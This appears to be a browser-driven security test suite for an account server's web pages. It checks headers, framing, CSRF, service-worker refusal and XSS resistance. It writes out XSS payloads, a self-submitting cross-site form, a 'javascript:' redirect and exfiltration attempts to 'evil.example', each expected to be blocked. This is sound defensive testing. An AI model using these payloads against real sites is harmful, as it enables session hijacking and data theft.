// The built server and its pages, and who would like to have what is in them.
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { createServer } from "node:http";
import { readFile } from "node:fs/promises";
import { after, before, test } from "node:test";
import { startServer } from "../Clients/server.mjs";
import { openPage, startChromium } from "./browser.mjs";
import { openPart, PASSWORD, problem, shows, signIn, signUp, submit } from "./person.mjs";

let browser;
let server;
let foreign;
let people = 0;

before(async () => {
  [browser, server, foreign] = await Promise.all([startChromium(), startServer({ "accounts:registration": "open" }), startForeign()]);
});
after(async () => {
  await browser?.close();
  await foreign?.close();
  await server?.stop();
});

/** A site of somebody else. */
async function startForeign() {
  const pages = new Map();
  const http = createServer((request, response) => response.writeHead(200, { "Content-Type": "text/html" }).end(pages.get(request.url) ?? "<!doctype html><title>foreign</title>"));
  await new Promise((resolve) => http.listen(0, "127.0.0.1", resolve));
  return { pages, address: `http://localhost:${http.address().port}`, close: () => new Promise((resolve) => (http.closeAllConnections(), http.close(resolve))) };
}

async function open(dialect) {
  const page = await openPage(browser, {}, dialect);
  page.server = server;
  return page;
}

const newEmail = () => `person${++people}@example.org`;

async function member() {
  const email = newEmail();
  const page = await open();
  await signUp(page, email);
  await shows(page, "settings");
  return { email, page };
}

/** The script of the page, from whose URL all others follow. */
const filesOf = async (page) => page.evaluate(() => document.querySelector("script[type=module]").src.replace("main.js", ""));

test("Page_HasItsHeaders_AndItsFilesStayForever", async () => {
  for (const path of ["/", "/signin", "/signup", "/settings", "/oauth/force_auth", "/pair", "/reset_password"]) {
    const { status, headers } = await fetch(server.address + path, { headers: { Accept: "text/html", Origin: foreign.address } });
    assert.equal(status, 200, path);
    const policy = headers.get("Content-Security-Policy");
    const files = `${server.address}/pages/[0-9a-f]{32}/`;
    assert.match(
      policy,
      new RegExp(
        `^default-src 'none'; script-src ${files}; style-src ${files}; img-src ${files}; connect-src 'self'; form-action 'self'; frame-ancestors 'none'; base-uri 'none'; require-trusted-types-for 'script'; trusted-types 'none'$`,
      ),
    );
    assert.equal(headers.get("Cache-Control"), "no-store");
    assert.equal(headers.get("Referrer-Policy"), "no-referrer");
    assert.equal(headers.get("X-Content-Type-Options"), "nosniff");
    assert.equal(headers.get("X-Frame-Options"), "DENY");
    assert.equal(headers.get("Set-Cookie"), null);
    assert.equal(headers.get("Access-Control-Allow-Origin"), null);
  }

  const html = await (await fetch(`${server.address}/signin`)).text();
  const linked = [...html.matchAll(/(?:src|href)="([^"]+)"/g)].map(([, url]) => url);
  assert.ok(linked.length > 20);
  for (const url of linked) {
    const { status, headers } = await fetch(server.address + url);
    assert.equal(status, 200, url);
    assert.equal(headers.get("Cache-Control"), "public, max-age=31536000, immutable", url);
    assert.equal(headers.get("X-Content-Type-Options"), "nosniff");
    assert.equal(headers.get("Cross-Origin-Resource-Policy"), "same-origin");
  }

  const gone = await fetch(`${server.address}/pages/${"0".repeat(32)}/main.js`);
  assert.equal(gone.status, 404);
  assert.equal(gone.headers.get("Cache-Control"), "no-store");
  assert.match(await gone.text(), /There is nothing here[\s\S]*Hier ist nichts/);
});

test("Paths_AreTheSameInScriptAndServer", async () => {
  const app = await readFile(new URL("../../src/Gateway.FirefoxAccounts/Pages/Files/app.js", import.meta.url), "utf8");
  const served = await readFile(new URL("../../src/Gateway.FirefoxAccounts/Pages/AccountPages.cs", import.meta.url), "utf8");
  const paths = (text, pattern) => [...text.matchAll(pattern)].map(([, path]) => path).sort();
  assert.deepEqual(paths(app, /^ {2}"(\/[\w/]*)": \w+,$/gm), paths(served, /^ {8}"(\/[\w/]*)",$/gm));
});

test("ServiceWorker_IsRefused_WhereverItsScriptLies", async () => {
  const page = await open();
  await page.goto(`${server.address}/signin`);
  await shows(page, "enter");
  const files = await filesOf(page);
  for (const url of [`${files}main.js`, `${server.address}/`, `${server.address}/v1/`, `${server.address}/auth/v1/account/registration`, `${server.address}/1.0/sync/1.5`]) {
    assert.equal((await fetch(url, { headers: { "Service-Worker": "script" } })).status, 403, url);
  }

  // The page's own policy knows no workers at all, so that the browser does not even ask.
  const outcome = await page.evaluate((url) => navigator.serviceWorker.register(url).then(() => "registered", (error) => error.name), `${files}main.js`);
  assert.notEqual(outcome, "registered");
  await page.context().close();
});

test("ForeignOrigin_ReadsNothing_AndSignsNobodyIn", async () => {
  const { email } = await member();
  const page = await open();
  await page.goto(foreign.address);
  const tried = await page.evaluate(
    async ([address, known]) => {
      const attempt = (path, options) => fetch(address + path, options).then((response) => `${response.type} ${response.status}`, (error) => error.name);
      const json = { "Content-Type": "application/json" };
      return {
        page: await attempt("/settings"),
        registration: await attempt("/auth/v1/account/registration"),
        credentials: await attempt("/auth/v1/account/registration", { credentials: "include" }),
        salt: await attempt("/auth/v1/account/credentials/status", { method: "POST", headers: json, body: JSON.stringify({ email: known }) }),
        status: await attempt("/auth/v1/session/status", { headers: { Authorization: `Bearer fxs_${"0".repeat(64)}` } }),
      };
    },
    [server.address, email],
  );
  assert.deepEqual(tried, { page: "TypeError", registration: "TypeError", credentials: "TypeError", salt: "TypeError", status: "TypeError" });
  await page.context().close();
});

test("ForeignForm_IsNotTakenForTheApi", async () => {
  const { email, page: own } = await member();
  const page = await open();
  foreign.pages.set(
    "/form",
    `<!doctype html><form method=post enctype=text/plain action="${server.address}/auth/v1/account/login"><input name='{"email":"${email}","authPW":"${"0".repeat(64)}","a":"' value='"}'></form><script>document.forms[0].submit()</script>`,
  );
  await page.goto(`${foreign.address}/form`);
  await page.waitForURL(/account\/login/);
  // Whatever it is answered, nobody is signed in by it: there is no cookie.
  assert.deepEqual(await page.context().cookies(), []);
  await own.reload();
  await shows(own, "enter");
  await page.context().close();
  await own.context().close();
});

test("Frame_ShowsNoPage", async () => {
  const page = await open();
  foreign.pages.set("/frame", `<!doctype html><iframe src="${server.address}/signin" width=600 height=600></iframe><iframe src="${server.address}/settings" sandbox="allow-scripts allow-forms"></iframe>`);
  await page.goto(`${foreign.address}/frame`);
  await page.waitForLoadState("networkidle");
  assert.equal(page.frames().length, 3);
  // What the browser shows in their place.
  assert.deepEqual(page.frames().slice(1).map((frame) => new URL(frame.url()).protocol), ["chrome-error:", "chrome-error:"]);
  await page.context().close();
});

test("Opener_HasNoHoldOnThePage", async () => {
  const page = await open();
  await page.goto(foreign.address);
  const [popup] = await Promise.all([page.context().waitForEvent("page"), page.evaluate((url) => void (window.popup = window.open(url)), `${server.address}/signin`)]);
  await popup.waitForSelector("[data-view]");
  assert.equal(await popup.evaluate(() => window.opener), null);
  assert.equal(await page.evaluate(() => window.popup.closed), true);
  await page.context().close();
});

test("Gadget_InWhatTheAddressSays_IsText", async () => {
  const page = await open();
  const evil = `"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>{{7*7}}@example.org`;
  for (const path of ["/signin", "/signup", "/oauth/force_auth", "/reset_password", "/authorization", "/settings"]) {
    const query = new URLSearchParams({ email: evil, client_id: evil, state: evil, scope: evil, redirect_uri: "javascript:window.pwned=1", invitation: evil, entrypoint: evil });
    await page.goto(`${server.address}${path}?${query}#${encodeURIComponent(evil)}`);
    await page.waitForSelector("[data-view]");
    assert.equal(await page.locator("img, script:not([src])").count(), 0, path);
  }

  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.deepEqual(page.faults, []);
  await page.context().close();
});

test("Gadget_InWhatTheServerSays_IsText", async () => {
  const { page } = await member();
  const evil = `<img src=x onerror="window.pwned=1"><svg onload="window.pwned=1">`;
  await page.route("**/account/attached_clients", (route) =>
    route.fulfill({ json: [{ clientId: null, deviceId: "a", sessionTokenId: null, refreshTokenId: null, isCurrentSession: false, deviceType: evil, name: evil, lastAccessTime: Date.now(), userAgent: evil }] }),
  );
  await page.route("**/account/app_passwords", (route) => route.fulfill({ json: [{ id: evil, name: evil, scope: evil, createdTime: 1, lastAccessTime: null }] }));
  await page.evaluate(() => history.pushState(null, "", "/settings"));
  await page.goBack();
  await page.goForward();
  await page.waitForSelector("#clients .name");
  assert.equal(await page.innerText("#clients .name"), evil);
  await page.waitForSelector("#app-passwords .name");
  assert.equal(await page.locator("main img").count(), 0);
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  assert.deepEqual(page.faults, []);
  await page.context().close();
});

test("Gadget_ThatIsInThePageAlready_RunsNothing", async () => {
  const { page } = await member();
  const files = await filesOf(page);
  // Something of the server that a person may have filled, and that a browser could take for a script.
  const outcome = await page.evaluate(
    async ([own]) => {
      const inserted = (make) =>
        new Promise((resolve) => {
          const script = document.createElement("script");
          try {
            make(script);
          } catch (error) {
            resolve(error.name);
            return;
          }

          script.onload = () => resolve("ran");
          script.onerror = () => resolve("blocked");
          document.head.append(script);
          setTimeout(() => resolve(window.pwned ? "ran" : "blocked"), 500);
        });
      const markup = () => {
        try {
          document.body.innerHTML = "<b>markup</b>";
          return "taken";
        } catch (error) {
          return error.name;
        }
      };
      const policy = () => {
        try {
          return window.trustedTypes.createPolicy("mine", { createHTML: (text) => text }) && "made";
        } catch (error) {
          return error.name;
        }
      };
      const frame = document.createElement("iframe");
      const evaluated = () => {
        try {
          return (0, eval)("1 + 1");
        } catch (error) {
          return error.name;
        }
      };
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
      const link = document.createElement("a");
      link.href = "x";
      return {
        src: await inserted((script) => (script.src = "/v1/")),
        attribute: await inserted((script) => script.setAttribute("src", `${own}main.js?again`)),
        inline: await inserted((script) => (script.text = "window.pwned = 1")),
        handler: (document.body.setAttribute.call(document.body, "data-x", "1"), "set"),
        markup: markup(),
        policy: policy(),
        // Of its own accord: what a test calls may evaluate.
        evaluated: await new Promise((resolve) => setTimeout(() => resolve(evaluated()), 0)),
        base: link.href.startsWith(location.origin),
        elsewhere: await fetch("https://evil.example/").then(() => "sent", (error) => error.name),
        image: await new Promise((resolve) => {
          const image = new Image();
          image.onload = () => resolve("loaded");
          image.onerror = () => resolve("blocked");
          image.src = "https://evil.example/?secret";
        }),
        frame: (document.body.append(frame), frame.contentDocument !== null),
      };
    },
    [files],
  );
  assert.deepEqual(outcome, {
    src: "TypeError",
    attribute: "TypeError",
    inline: "TypeError",
    handler: "set",
    markup: "TypeError",
    policy: "TypeError",
    evaluated: "EvalError",
    base: true,
    elsewhere: "TypeError",
    image: "blocked",
    frame: true,
  });
  assert.equal(await page.evaluate(() => window.pwned), undefined);
  await page.context().close();
});

test("Script_OutsideOfTheHash_IsBlockedByThePolicyAlone", async () => {
  const page = await open();
  await page.goto(`${server.address}/signin`);
  await shows(page, "enter");
  const blocked = await page.evaluate(
    () =>
      new Promise((resolve) => {
        document.addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) => resolve(`${effectiveDirective} ${new URL(blockedURI).pathname}`));
        // Modules that are preloaded go by the same rule, and need no trusted type.
        const link = document.createElement("link");
        link.rel = "modulepreload";
        link.href = "/v1/buckets/default/collections/a/records";
        document.head.append(link);
      }),
  );
  assert.equal(blocked, "script-src-elem /v1/buckets/default/collections/a/records");
  await page.context().close();
});

test("StoredContent_IsNoPage", async () => {
  const user = await server.register();
  const evil = "<!doctype html><script>window.pwned=1</script>";
  await server.request(user, "PUT", "/buckets/default/collections/a/records/b", { body: { data: { evil } } });
  const { headers } = await server.request(user, "GET", "/buckets/default/collections/a/records/b");
  assert.match(headers.get("Content-Type"), /^application\/json/);
  assert.equal(headers.get("X-Content-Type-Options"), "nosniff");
  assert.match(headers.get("Content-Security-Policy"), /; sandbox$/);

  // Somebody is led to its address: the browser shows text, of no origin.
  const page = await open();
  await page.setExtraHTTPHeaders({ Authorization: user.authorization });
  await page.goto(`${server.remote}/buckets/default/collections/a/records/b`);
  assert.match(await page.innerText("body"), /window\.pwned=1/);
  assert.deepEqual(await page.evaluate(() => [window.origin, window.pwned ?? null, document.scripts.length]), ["null", null, 0]);

  // Nor does it show in a frame of another site.
  foreign.pages.set("/stored", `<!doctype html><iframe src="${server.remote}/buckets/default/collections/a/records/b"></iframe>`);
  await page.goto(`${foreign.address}/stored`);
  await page.waitForLoadState("networkidle");
  assert.deepEqual(page.frames().slice(1).map((frame) => new URL(frame.url()).protocol), ["chrome-error:"]);
  await page.context().close();
});

// :: The pages with the server that they are for
test("Account_OnTheBuiltServer_FromSignUpToDeletion", async () => {
  const { email, page } = await member();

  await openPart(page, "app-passwords");
  await page.fill("#app-passwords [name=name]", "Notes");
  await page.fill("#app-passwords [name=password]", PASSWORD);
  await submit(page, "app-password");
  await page.waitForSelector("#app-passwords .once");
  const user = await page.innerText("#app-passwords .facts dd >> nth=0");
  const password = await page.innerText("#app-passwords .once");
  const authorization = `Basic ${Buffer.from(`${user}:${password}`).toString("base64")}`;
  assert.equal((await fetch(`${server.remote}/buckets/default/collections/a/records`, { headers: { Authorization: authorization } })).status, 200);
  const own = `Basic ${Buffer.from(`${user}:${PASSWORD}`).toString("base64")}`;
  assert.equal((await fetch(`${server.remote}/buckets/default/collections/a/records`, { headers: { Authorization: own } })).status, 401);

  await openPart(page, "recovery-key");
  await page.fill("#recovery-key [name=password]", PASSWORD);
  await submit(page, "recovery-key");
  await page.waitForSelector("#recovery-key .once");
  const key = await page.innerText("#recovery-key .once");

  await openPart(page, "second-factor");
  await page.fill("#second-factor [name=password]", PASSWORD);
  await submit(page, "second-factor");
  await page.waitForSelector("#second-factor .qr");
  const secret = (await page.innerText("#second-factor code")).replaceAll(" ", "");
  await page.fill("#second-factor [name=code]", totp(secret));
  await submit(page, "second-factor-code");
  await page.waitForSelector("#second-factor .codes");
  const codes = await page.locator("#second-factor .codes li").allInnerTexts();
  assert.equal(codes.length, 8);

  await page.context().close();

  // Forgotten: the recovery key and a code of the second factor bring it back.
  const again = await open();
  await again.goto(`${server.address}/recovery_key`);
  await shows(again, "recover");
  await again.fill("[name=email]", email);
  await again.fill("[name=key]", key);
  await submit(again, "recover");
  await shows(again, "recover-factor");
  await submit(again, "recover-factor");
  assert.match(await problem(again), /Fill this in/);
  await again.fill("[name=recoveryCode]", codes[0]);
  await submit(again, "recover-factor");
  await shows(again, "reset");
  await again.fill("[name=password]", "another good password");
  await again.fill("[name=repeated]", "another good password");
  await submit(again, "reset");
  await shows(again, "settings");
  await again.context().close();

  const last = await open();
  await signIn(last, email, { password: "another good password" });
  await shows(last, "factor");
  await last.click("text=I do not have the app at hand");
  await last.fill("[name=code]", codes[1]);
  await submit(last, "recovery-code");
  await shows(last, "settings");
  await openPart(last, "password");
  await last.fill("#password [name=old]", "another good password");
  await last.fill("#password [name=password]", PASSWORD);
  await last.fill("#password [name=repeated]", PASSWORD);
  await submit(last, "change-password");
  await last.waitForSelector("text=Your password is changed");
  await openPart(last, "delete");
  await last.fill("#delete [name=password]", PASSWORD);
  await last.check("#delete [name=understood]");
  await submit(last, "delete");
  await shows(last, "deleted");
  assert.deepEqual(last.faults, []);
  await last.context().close();
});

test("Export_OnTheBuiltServer_IsAFile", async (context) => {
  if ((await fetch(`${server.address}/auth/v1/account/export`, { method: "POST" })).status === 404) {
    context.skip("the server has no export yet");
    return;
  }

  const { email, page } = await member();
  await openPart(page, "export");
  await page.fill("#export [name=password]", PASSWORD);
  await submit(page, "export");
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#export a")]);
  assert.ok((await readFile(await download.path(), "utf8")).includes(email));
  await page.context().close();
});

test("Export_WithMarkupInIt_IsAFile_AndNoPage", async () => {
  const { email, page } = await member();
  const evil = "<!doctype html><script>window.pwned=1</script>";
  await openPart(page, "app-passwords");
  await page.fill("#app-passwords [name=name]", "Notes");
  await page.fill("#app-passwords [name=password]", PASSWORD);
  await submit(page, "app-password");
  await page.waitForSelector("#app-passwords .once");
  const authorization = `Basic ${Buffer.from(`${email}:${await page.innerText("#app-passwords .once")}`).toString("base64")}`;
  assert.equal((await server.request({ authorization }, "PUT", "/buckets/default/collections/a/records/b", { body: { data: { evil } } })).status, 201);

  await openPart(page, "export");
  await page.fill("#export [name=password]", PASSWORD);
  await submit(page, "export");
  const url = await page.getAttribute("#export a", "href");
  const other = await open();
  // A page of somebody else leads there: the browser goes nowhere, and keeps a file.
  foreign.pages.set("/export", `<!doctype html><a href="${new URL(url, server.address)}">here</a>`);
  await other.goto(`${foreign.address}/export`);
  const [download] = await Promise.all([other.waitForEvent("download"), other.click("a")]);
  assert.ok((await readFile(await download.path(), "utf8")).includes("window.pwned=1"));
  assert.equal(other.url(), `${foreign.address}/export`);
  await Promise.all([page.context().close(), other.context().close()]);
});

/** RFC 6238, of now. */
function totp(secret) {
  const bits = [...secret].map((character) => "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567".indexOf(character).toString(2).padStart(5, "0")).join("");
  const counter = Buffer.alloc(8);
  counter.writeBigUInt64BE(BigInt(Math.floor(Date.now() / 30_000)));
  const mac = createHmac("sha1", Buffer.from(bits.match(/.{8}/g).map((eight) => Number.parseInt(eight, 2)))).update(counter).digest();
  const at = mac[19] & 15;
  return String((mac.readUInt32BE(at) & 0x7fffffff) % 1e6).padStart(6, "0");
}
